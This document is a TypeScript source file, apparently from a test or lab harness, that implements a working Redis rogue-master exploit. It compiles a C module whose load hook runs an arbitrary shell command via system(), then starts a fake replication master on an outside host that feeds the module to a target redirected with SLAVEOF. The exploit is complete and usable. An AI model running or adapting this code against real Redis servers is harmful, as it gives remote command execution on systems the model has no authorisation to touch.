// A "master" that sends Redis a module instead of data. The module is our own: it runs one given line and is then refused.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { must } from './command.ts'
import type { Stage } from './stage.ts'

const address = '198.51.100.9'
const port = 21_000

/** Starts it outside; gives the words for SLAVEOF. */
export async function rogueMaster(stage: Stage, line: string): Promise<readonly [string, string]> {
  const source = join(stage.folder, 'module.c')
  writeFileSync(
    source,
    `#include <stdlib.h>\nint RedisModule_OnLoad(void *ctx, void **argv, int argc) { return system(${JSON.stringify(line)}) == 0 ? 1 : 1; }\n`,
  )
  const module = join(stage.folder, 'module.so')
  await must('gcc', ['-O1', '-shared', '-fPIC', '-o', module, source])
  const server = `
const { readFileSync } = require('node:fs')
const payload = readFileSync(process.env.MODULE)
require('node:net').createServer(socket => {
  socket.on('error', () => {})
  socket.on('data', part => {
    for (const command of part.toString('latin1').toUpperCase().split(/(?=^\\*\\d)/m)) {
      if (/^P?SYNC\\r/m.test(command)) {
        socket.write('+FULLRESYNC ' + 'z'.repeat(40) + ' 1\\r\\n$' + payload.length + '\\r\\n')
        socket.write(payload)
      } else socket.write(command.includes('PING') ? '+PONG\\r\\n' : '+OK\\r\\n')
    }
  })
}).listen(${port}, '0.0.0.0')
setTimeout(() => process.exit(), 120000)`
  stage.host.outside([process.execPath, '-e', server], { MODULE: module }, join(stage.folder, 'master.log'))
  await setTimeout(500)
  return [address, `${port}`]
}
